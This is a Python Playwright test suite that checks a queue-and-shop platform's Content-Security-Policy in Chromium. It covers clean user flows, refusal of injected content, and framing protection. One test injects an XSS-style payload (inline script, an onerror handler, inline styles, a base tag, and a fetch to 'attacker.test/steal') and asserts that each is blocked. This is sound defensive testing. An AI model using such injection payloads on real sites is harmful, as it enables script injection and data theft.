"""The pages' Content-Security-Policy in real Chromium, against the real platform (queue
server, gate and shop under uvicorn, the order worker, the session's Valkey, PostgreSQL and
tansu): the pages work under it end to end without one violation, and it refuses what it is
there to refuse.

Violations are caught two ways, in every document of a tab (the listener is an init script,
the report a binding, so both outlive the navigations from the waiting room to the shop
page): the ``securitypolicyviolation`` events the page sees, and the console's CSP errors.
"""

from __future__ import annotations

import contextlib
import re
import secrets
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from redis.asyncio import Redis
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse
from starlette.routing import Route

from infra.sale.scripts import SaleScripts
from shop.sales import apply
from tests.browser import chromium, require_browser
from tests.orders.conftest import Worker
from tests.security.conftest import ADMIN_KEY, Platform, cookie
from tests.support import iso_in, new_sale, open_sale, sale_body, serving, unique_id

require_browser()
from playwright.async_api import Page, expect  # noqa: E402

pytestmark = pytest.mark.slow

STEP_TIMEOUT_MS = 15_000
_LISTEN = """
document.addEventListener("securitypolicyviolation", (e) => {
  window.fsViolation({directive: e.effectiveDirective, blocked: e.blockedURI,
                      source: e.sourceFile, sample: e.sample, page: location.pathname});
});
"""
CSP_CONSOLE = re.compile(r"Content Security Policy|Refused to", re.I)


@dataclass
class Policed:
    """A tab whose policy violations are recorded, wherever it navigates."""

    page: Page
    violations: list[dict[str, str]] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    documents: list[tuple[str, str | None]] = field(default_factory=list)

    def assert_clean(self) -> None:
        assert not self.violations, self.violations
        assert not self.console, self.console
        assert not self.errors, f"the page's script failed: {self.errors}"


@contextlib.asynccontextmanager
async def policed(browser: Any, locale: str = "en-US") -> AsyncIterator[Policed]:
    context = await browser.new_context(locale=locale)
    try:
        page = await context.new_page()
        tab = Policed(page)
        await context.expose_binding("fsViolation", lambda _source, v: tab.violations.append(v))
        await context.add_init_script(_LISTEN)
        page.on("pageerror", lambda exc: tab.errors.append(str(exc)))
        page.on(
            "console",
            lambda m: tab.console.append(m.text) if CSP_CONSOLE.search(m.text) else None,
        )

        async def document(response: Any) -> None:
            if response.request.resource_type == "document":
                tab.documents.append(
                    (response.url, await response.header_value("content-security-policy"))
                )

        page.on("response", document)
        yield tab
    finally:
        await context.close()


@pytest.fixture(scope="module")
async def browser() -> AsyncIterator[Any]:
    async with chromium() as launched:
        yield launched


@pytest.fixture(scope="module")
async def worker(platform: Platform) -> AsyncIterator[Worker]:
    """Turns pending orders into placed ones, as in production."""
    w = Worker(platform.settings)
    await w.start()
    yield w
    await w.stop()


async def _sale(platform: Platform, **fields: Any) -> str:
    body = sale_body(**fields)
    async with httpx.AsyncClient(trust_env=False) as client:
        reply = await client.post(
            f"{platform.shop_url}/admin/products", json=body, headers=platform.admin()
        )
    assert reply.status_code == 201, reply.text
    return str(body["id"])


async def test_a_visitors_whole_way_meets_no_violation(
    platform: Platform, browser: Any, worker: Worker
) -> None:
    """Waiting room, its turn, the hand-over to the shop page, buy, a declined card, pay."""
    pid = await _sale(platform, name="Policy sneaker", stock=5)  # an empty line: through
    async with policed(browser) as tab:
        page = tab.page
        await page.goto(f"{platform.queue_url}/wait/{pid}")
        await expect(page.locator("#headline")).to_have_text("It's your turn!")
        await page.wait_for_url(f"{platform.gate_url}/shop/{pid}", timeout=STEP_TIMEOUT_MS)
        await expect(page.locator("#name")).to_have_text("Policy sneaker")
        await expect(page.locator("#stock")).to_have_text("5 left of 5")
        await page.click("#buy")
        await expect(page.locator("#order-status")).to_have_attribute(
            "data-status", "placed", timeout=30_000
        )
        await page.fill("#card", "4000 0000 0000 0002")
        await page.click("#pay")
        await expect(page.locator("#notice")).to_contain_text("The card was declined")
        await page.fill("#card", "4242424242424242")
        await page.click("#pay")
        await expect(page.locator("#order-status")).to_have_attribute("data-status", "paid")
        await page.locator("[data-lang-switch]").click()  # the other language re-renders all
        await expect(page.locator("html")).to_have_attribute("lang", "ko")
        # The browser was given the policy with each page, the 303 between them included.
        pages = [url for url, policy in tab.documents if policy]
        assert any("/wait/" in url for url in pages), tab.documents
        assert any(url.endswith(f"/shop/{pid}") for url in pages), tab.documents
    tab.assert_clean()


async def test_a_line_that_moves_meets_no_violation(
    platform: Platform, browser: Any, redis: Redis
) -> None:
    """The pre-queue's countdown and draw, the line, the bar, Check my draw, Leave, Rejoin."""
    # abandon_s 10: the page then asks at least every 3.3 s, so each step shows within seconds.
    keys = await new_sale(
        redis, opened=False, queue_mode="shuffle_prequeue", sale_start=iso_in(30), abandon_s=10
    )
    p = keys.product_id
    scripts = SaleScripts(redis)
    for _ in range(2):  # others in the pre-queue: the line is not empty when it opens
        await scripts.join(keys, secrets.token_hex(16), False, "203.0.113.9", 0)
    async with policed(browser) as tab:
        page = tab.page
        await page.goto(f"{platform.queue_url}/wait/{p}")
        await expect(page.locator("#headline")).to_have_text("The sale has not started yet")
        await expect(page.locator("#countdown-box")).to_be_visible()
        await expect(page.locator("#fair")).to_be_visible()

        await redis.hset(keys.sale, "start_ms", int(time.time() * 1000) - 1000)
        assert await open_sale(redis, p) == "done"
        await expect(page.locator("#headline")).to_have_text(
            "You are in line", timeout=STEP_TIMEOUT_MS
        )
        await expect(page.locator("#bar")).to_be_visible()  # its width is set by the script
        await expect(page.locator("#check")).to_be_visible(timeout=STEP_TIMEOUT_MS)
        await page.click("#check")
        await expect(page.locator("#check-result")).to_have_text(re.compile("^✓"))
        await page.click("#leave")
        await expect(page.locator("#headline")).to_have_text("You left the line")
        await page.click("#rejoin")
        await expect(page.locator("#headline")).to_have_text(
            "You are in line", timeout=STEP_TIMEOUT_MS
        )
    tab.assert_clean()


async def test_the_endings_of_a_wait_meet_no_violation(
    platform: Platform, browser: Any, redis: Redis
) -> None:
    """Paused and resumed, sold out, closed: each view the waiting room renders, in Korean."""
    keys = await new_sale(redis, abandon_s=10)
    await redis.zadd(keys.line, {"filler": 0})  # someone ahead: the page waits in line
    async with policed(browser, locale="ko-KR") as tab:
        page = tab.page
        await page.goto(f"{platform.queue_url}/wait/{keys.product_id}")
        headline = page.locator("#headline")
        await expect(headline).to_have_text("대기 중입니다", timeout=STEP_TIMEOUT_MS)
        await apply(SaleScripts(redis), keys, {"paused": "1"})
        await expect(headline).to_have_text("입장이 잠시 멈췄습니다", timeout=STEP_TIMEOUT_MS)
        await apply(SaleScripts(redis), keys, {"paused": "0"})
        await expect(headline).to_have_text("대기 중입니다", timeout=STEP_TIMEOUT_MS)
        await redis.set(keys.stock, 0)
        await expect(headline).to_have_text("품절되었습니다", timeout=STEP_TIMEOUT_MS)
        await redis.hset(keys.sale, "cancelled", "1")
        await expect(headline).to_have_text("판매가 종료되었습니다", timeout=STEP_TIMEOUT_MS)
        await page.locator("[data-lang-switch]").click()
        await expect(headline).to_have_text("The sale is closed")
    tab.assert_clean()


async def test_the_dashboard_meets_no_violation(
    platform: Platform, browser: Any, redis: Redis
) -> None:
    """Sign in, the charts of a sale (uPlot), pause and resume."""
    keys = await new_sale(redis)
    pid = keys.product_id
    async with policed(browser) as tab:
        page = tab.page
        await page.goto(f"{platform.shop_url}/admin/dashboard")
        await page.locator("#key-input").fill(ADMIN_KEY)
        await page.get_by_role("button", name="Open the dashboard").click()
        await expect(page.locator("#board")).to_be_visible()
        await page.locator("#filter").fill(pid)
        row = page.locator(f'tr[data-product-id="{pid}"]')
        await row.get_by_role("button", name=f"Show {pid}").click()
        await expect(page.locator("#detail-h")).to_contain_text(pid)
        await expect(page.locator(".uplot").first).to_be_visible(timeout=STEP_TIMEOUT_MS)
        button = page.locator("#pause")
        await button.click()
        await expect(button).to_have_text("Resume admissions")
        await button.click()
        await expect(button).to_have_text("Pause admissions")
    tab.assert_clean()


# What an attacker's injected markup or script would try, run inside each page. Each must be
# refused by the policy, reported, and leave no trace of having run.
_INJECT = """async (foreign) => {
  const s = document.createElement("script");
  s.textContent = "window.fsRan = (window.fsRan || []).concat('inline script')";
  document.body.append(s);
  const div = document.createElement("div");
  div.innerHTML = '<img src="data:," onerror="window.fsRan = [\\'handler\\']">'
    + '<p style="color: rgb(255, 0, 0)">styled</p>';
  document.body.append(div);
  const styled = getComputedStyle(div.querySelector("p")).color;
  const sheet = document.createElement("style");
  sheet.textContent = "body { background: rgb(255, 0, 0) }";
  document.head.append(sheet);
  const base = document.createElement("base");
  base.href = foreign;
  document.head.append(base);
  let fetched = "not blocked";
  try { await fetch(foreign + "steal", { mode: "no-cors" }); } catch (e) { fetched = "blocked"; }
  const obj = document.createElement("object");
  obj.data = "/assets/i18n.js";
  document.body.append(obj);
  await new Promise((r) => setTimeout(r, 300));
  return { ran: window.fsRan || [], styled, fetched,
           background: getComputedStyle(document.body).backgroundColor };
}"""
REFUSED = {
    "script-src-elem",
    "script-src-attr",
    "style-src-attr",
    "style-src-elem",
    "connect-src",
    "base-uri",
}


async def _page_urls(platform: Platform, redis: Redis) -> dict[str, tuple[str, dict[str, str]]]:
    """Each page, by name: its URL and what the browser must send to see it."""
    pid = (await new_sale(redis)).product_id
    token = platform.codec.mint_access(unique_id("v"), pid, int(time.time()) + 300)
    return {
        "waiting room": (f"{platform.queue_url}/wait/{pid}", {}),
        "shop page": (f"{platform.gate_url}/shop/{pid}", cookie("fs_access", token)),
        "dashboard": (f"{platform.shop_url}/admin/dashboard", {}),
    }


async def test_an_injected_script_style_or_fetch_is_refused_on_every_page(
    platform: Platform, browser: Any, redis: Redis
) -> None:
    for name, (url, headers) in (await _page_urls(platform, redis)).items():
        async with policed(browser) as tab:
            await tab.page.set_extra_http_headers(headers)
            await tab.page.goto(url)
            await tab.page.wait_for_load_state("load")
            assert not tab.violations, (name, tab.violations)  # the page itself: none
            outcome = await tab.page.evaluate(_INJECT, "http://attacker.test/")
            await tab.page.wait_for_timeout(200)  # the last reports cross the binding
            assert outcome["ran"] == [], (name, outcome)
            assert outcome["styled"] != "rgb(255, 0, 0)", (name, outcome)
            assert outcome["background"] != "rgb(255, 0, 0)", (name, outcome)
            assert outcome["fetched"] == "blocked", (name, outcome)
            seen = {v["directive"] for v in tab.violations}
            assert seen >= REFUSED, (name, seen, tab.violations)
            assert "object-src" in seen or "default-src" in seen, (name, seen)


def _framer(body: str) -> Starlette:
    """Another site: a page that frames ours."""

    async def page(request: Request) -> HTMLResponse:
        return HTMLResponse(body)

    return Starlette(routes=[Route("/", page)])


async def test_no_other_site_may_frame_a_page(
    platform: Platform, browser: Any, redis: Redis
) -> None:
    """A page of another site that frames ours (clickjacking) gets Chromium's error page
    instead. Something of the same server that no page header covers (/healthz) does load in
    the same frame: the refusal is the pages' headers', not the test's setup. The framing
    site is a real server too, on loopback ("localhost": another site than 127.0.0.1), so no
    rule but the pages' own decides (Chromium refuses public pages that frame loopback ones)."""
    urls = [url for url, _ in (await _page_urls(platform, redis)).values()]
    control = f"{platform.queue_url}/healthz"
    frames = "".join(f'<iframe src="{url}"></iframe>' for url in [*urls, control])
    async with serving(_framer(f"<body>{frames}</body>")) as framer_url:
        context = await browser.new_context()
        try:
            page = await context.new_page()
            await page.goto(framer_url.replace("127.0.0.1", "localhost") + "/")
            await page.wait_for_load_state("load")
            children = page.main_frame.child_frames
            assert len(children) == len(urls) + 1
            *pages, shown = children
            for url, child in zip(urls, pages, strict=True):
                assert child.url == "chrome-error://chromewebdata/", (url, child.url)
            assert shown.url == control
        finally:
            await context.close()
